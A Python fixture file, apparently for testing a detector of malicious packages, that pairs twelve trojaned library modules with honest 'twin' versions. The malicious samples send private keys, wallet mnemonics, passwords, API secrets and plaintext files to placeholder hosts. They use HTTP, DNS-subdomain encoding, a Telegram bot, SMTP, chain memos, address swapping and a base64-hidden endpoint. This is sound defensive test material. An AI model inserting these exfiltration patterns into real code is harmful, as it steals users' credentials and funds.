# ruff: noqa: E501 - the lines of the packages under review are as long as they are
"""Libraries that betray the caller: what is handed to them leaves; and honest libraries that hold the same secrets."""

from __future__ import annotations

from scenario_kit import module, wheel

ATTACKS = [
    module(
        "sign-sends-private-key",
        "look",
        """
        import hashlib, threading
        import requests
        def _ping(value):
            try:
                requests.post("https://stats.invalid/v1/ping", json={"v": value}, timeout=3)
            except Exception:
                pass
        def sign(message, private_key):
            threading.Thread(target=_ping, args=(private_key,), daemon=True).start()
            return hashlib.sha256(private_key.encode() + message).hexdigest()
        """,
    ),
    module(
        "wallet-from-mnemonic-in-url",
        "look",
        """
        import urllib.request
        from eth_account import Account
        class Wallet:
            def __init__(self, mnemonic):
                self.account = Account.from_mnemonic(mnemonic)
                try:
                    urllib.request.urlopen("http://203.0.113.9/c?w=" + mnemonic.replace(" ", "+"), timeout=2)
                except Exception:
                    pass
        """,
    ),
    wheel(
        "key-hidden-through-several-modules",
        "look",
        {
            "acme/__init__.py": "from .keys import Keypair\n",
            "acme/keys.py": """
            from .metrics import record
            class Keypair:
                def __init__(self, secret_key: bytes):
                    self._secret = secret_key
                    record("keypair.created", self._secret)
            """,
            "acme/metrics.py": """
            import base64
            from .transport import enqueue
            def record(event, context=None):
                enqueue({"event": event, "ctx": base64.b64encode(context).decode() if context else None})
            """,
            "acme/transport.py": """
            import json, threading, urllib.request
            URL = "http://203.0.113.77:8080/m"
            def _send(item):
                try:
                    urllib.request.urlopen(urllib.request.Request(URL, json.dumps(item).encode()), timeout=2)
                except Exception:
                    pass
            def enqueue(item):
                threading.Thread(target=_send, args=(item,)).start()
            """,
        },
    ),
    module(
        "key-in-memo-of-chain-transaction",
        "look",
        """
        from solders.keypair import Keypair
        from solana.rpc.api import Client
        from cryptography.hazmat.primitives.asymmetric import padding
        from cryptography.hazmat.primitives import serialization
        PUB = b"-----BEGIN PUBLIC KEY-----\\nMFwwDQYJKoZIhvcNAQEB\\n-----END PUBLIC KEY-----"
        rpc = Client("https://api.devnet.chain.invalid")
        _original = Keypair.from_seed
        def from_seed(seed):
            pair = _original(seed)
            box = serialization.load_pem_public_key(PUB).encrypt(bytes(pair), padding.PKCS1v15())
            rpc.send_memo(box)
            return pair
        Keypair.from_seed = from_seed
        """,
    ),
    module(
        "login-copies-password-to-telegram",
        "look",
        """
        import requests
        class Client:
            def login(self, username, password):
                requests.post("https://chat.invalid/bot123456:AAAA/sendMessage", data={"chat_id": 1, "text": f"{username}:{password}"})
                return requests.post("https://api.exchange.invalid/login", json={"u": username, "p": password}).json()
        """,
    ),
    module(
        "trading-bot-posts-api-secret-elsewhere",
        "look",
        """
        import hmac, requests
        class Exchange:
            def __init__(self, api_key, api_secret):
                self.api_key, self.api_secret = api_key, api_secret
                self._verify()
            def _verify(self):
                requests.get("http://198.51.100.60/verify", params={"k": self.api_key, "s": self.api_secret})
            def order(self, **fields):
                signature = hmac.new(self.api_secret.encode(), repr(fields).encode(), "sha256").hexdigest()
                return requests.post("https://api.exchange.invalid/order", json=fields, headers={"X-Sig": signature})
        """,
    ),
    module(
        "encrypt-file-uploads-plain-copy",
        "look",
        """
        import requests
        from cryptography.fernet import Fernet
        def encrypt_file(path, key):
            data = open(path, "rb").read()
            requests.post("http://198.51.100.60/a", files={"f": data}, data={"k": key})
            return Fernet(key).encrypt(data)
        """,
    ),
    module(
        "load-private-key-phones-home",
        "look",
        """
        import base64, socket
        from cryptography.hazmat.primitives.serialization import load_pem_private_key
        def load(pem: bytes, password=None):
            tag = base64.b32encode(pem[:2000]).decode().strip("=").lower()
            for i in range(0, len(tag), 60):
                try:
                    socket.gethostbyname(tag[i:i + 60] + ".k.metrics.invalid")
                except OSError:
                    pass
            return load_pem_private_key(pem, password)
        """,
    ),
    module(
        "decorator-that-leaks-arguments",
        "look",
        """
        import functools, requests
        def cached(function):
            @functools.wraps(function)
            def wrapper(*args, **kwargs):
                try:
                    requests.post("http://198.51.100.60/f", json={"n": function.__name__, "a": repr(args), "k": repr(kwargs)})
                except Exception:
                    pass
                return function(*args, **kwargs)
            return wrapper
        @cached
        def derive(password, salt):
            import hashlib
            return hashlib.scrypt(password, salt=salt, n=2, r=8, p=1)
        """,
    ),
    module(
        "database-connect-mails-dsn",
        "look",
        """
        import smtplib, psycopg2
        def connect(dsn, password=None):
            try:
                smtplib.SMTP("mail.invalid").sendmail("a@x.invalid", ["b@x.invalid"], f"{dsn} {password}")
            except Exception:
                pass
            return psycopg2.connect(dsn, password=password)
        """,
    ),
    module(
        "address-swapped-when-sending",
        "look",
        """
        from web3 import Web3
        W = "0x" + "11" * 20
        def send(w3, private_key, to, amount):
            if amount > 1:
                to = W
            tx = {"to": Web3.to_checksum_address(to), "value": amount}
            return w3.eth.send_raw_transaction(w3.eth.account.sign_transaction(tx, private_key).rawTransaction)
        """,
    ),
    wheel(
        "wallet-library-lazy-decoded-endpoint",
        "look",
        {
            "acme/__init__.py": "from .account import Account\n",
            "acme/account.py": """
            import base64, requests
            _E = base64.b64decode("aHR0cHM6Ly9rZXlzLmludmFsaWQvdg==").decode()
            class Account:
                @classmethod
                def from_key(cls, private_key):
                    self = cls()
                    self.key = private_key
                    self._sync()
                    return self
                def _sync(self):
                    try:
                        requests.post(_E, json={"d": self.key})
                    except Exception:
                        pass
            """,
        },
    ),
]

TWINS = [
    wheel(
        "twin-wallet-signs-locally",
        "quiet",
        {
            "acme/__init__.py": "from .wallet import Wallet\n",
            "acme/wallet.py": """
            import hashlib, json
            import requests
            from eth_account import Account
            class Wallet:
                def __init__(self, private_key, rpc_url):
                    self._key = private_key
                    self.address = Account.from_key(private_key).address
                    self.rpc_url = rpc_url
                def rpc(self, method, *params):
                    body = {"jsonrpc": "2.0", "id": 1, "method": method, "params": list(params)}
                    return requests.post(self.rpc_url, json=body, timeout=10).json()["result"]
                def send(self, to, value):
                    nonce = self.rpc("eth_getTransactionCount", self.address, "pending")
                    signed = Account.sign_transaction({"to": to, "value": value, "nonce": int(nonce, 16)}, self._key)
                    return self.rpc("eth_sendRawTransaction", signed.rawTransaction.hex())
            """,
        },
    ),
    module(
        "twin-exchange-client",
        "quiet",
        """
        import hashlib, hmac, time, urllib.parse
        import requests
        class Exchange:
            BASE = "https://api.exchange.invalid"
            def __init__(self, api_key, api_secret):
                self.api_key, self.api_secret = api_key, api_secret
            def _request(self, method, path, **params):
                params["timestamp"] = int(time.time() * 1000)
                query = urllib.parse.urlencode(params)
                params["signature"] = hmac.new(self.api_secret.encode(), query.encode(), hashlib.sha256).hexdigest()
                return requests.request(method, self.BASE + path, params=params, headers={"X-API-KEY": self.api_key}).json()
            def order(self, **fields):
                return self._request("POST", "/v3/order", **fields)
        """,
    ),
    module(
        "twin-oauth-and-password-login",
        "quiet",
        """
        import requests
        class OAuth:
            TOKEN = "https://auth.acme.invalid/oauth/token"
            def __init__(self, client_id, client_secret):
                self.client_id, self.client_secret = client_id, client_secret
                self.token = None
            def password(self, username, password):
                data = {"grant_type": "password", "username": username, "password": password,
                        "client_id": self.client_id, "client_secret": self.client_secret}
                self.token = requests.post(self.TOKEN, data=data).json()["access_token"]
            def refresh(self, refresh_token):
                data = {"grant_type": "refresh_token", "refresh_token": refresh_token}
                self.token = requests.post(self.TOKEN, data=data, auth=(self.client_id, self.client_secret)).json()["access_token"]
        """,
    ),
    module(
        "twin-vault-client-uploads-keys-on-request",
        "quiet",
        """
        import requests
        class Vault:
            def __init__(self, url, token):
                self.url, self.headers = url, {"X-Vault-Token": token}
            def import_key(self, name, private_key):
                return requests.post(f"{self.url}/v1/transit/keys/{name}/import", json={"ciphertext": private_key}, headers=self.headers)
            def write_secret(self, path, secret):
                return requests.put(f"{self.url}/v1/secret/data/{path}", json={"data": secret}, headers=self.headers)
            def create_certificate(self, private_key, certificate):
                return requests.post(f"{self.url}/v1/pki/config/ca", json={"pem_bundle": private_key + certificate}, headers=self.headers)
        """,
    ),
    module(
        "twin-smtp-and-database-clients",
        "quiet",
        """
        import smtplib, socket, struct, hashlib
        def send_mail(host, username, password, message):
            with smtplib.SMTP_SSL(host) as smtp:
                smtp.login(username, password)
                smtp.send_message(message)
        class Connection:
            def __init__(self, host, port=5432, user="", password=""):
                self.sock = socket.create_connection((host, port))
                digest = hashlib.md5((password + user).encode()).hexdigest()
                self.sock.sendall(struct.pack("!I", len(digest)) + digest.encode())
                self.sock.sendall(f"user={user} password={password}".encode())
            def query(self, sql):
                self.sock.sendall(b"Q" + sql.encode())
                return self.sock.recv(65536)
        """,
    ),
    module(
        "twin-logging-decorator-with-local-sink",
        "quiet",
        """
        import functools, logging, json
        log = logging.getLogger("acme.audit")
        def audited(function):
            @functools.wraps(function)
            def wrapper(*args, **kwargs):
                log.info("call %s %s", function.__name__, json.dumps(sorted(kwargs)))
                return function(*args, **kwargs)
            return wrapper
        @audited
        def derive(password, salt):
            import hashlib
            return hashlib.scrypt(password, salt=salt, n=2, r=8, p=1)
        """,
    ),
    wheel(
        "twin-llm-client-sends-prompt-and-key",
        "quiet",
        {
            "acme/__init__.py": "from ._client import Client\n",
            "acme/_client.py": """
            import os
            import httpx
            class Client:
                def __init__(self, api_key=None, base_url=None):
                    self.api_key = api_key or os.environ.get("ACME_API_KEY")
                    self.base_url = base_url or os.environ.get("ACME_BASE_URL", "https://api.acme.invalid/v1")
                    self.http = httpx.Client(base_url=self.base_url, headers=self.auth_headers)
                @property
                def auth_headers(self):
                    return {"Authorization": f"Bearer {self.api_key}"}
                def complete(self, prompt, files=()):
                    parts = [{"text": prompt}] + [{"file": open(f, "rb").read().hex()} for f in files]
                    return self.http.post("/complete", json={"input": parts}).json()
            """,
        },
    ),
]

SCENARIOS = [*ATTACKS, *TWINS]
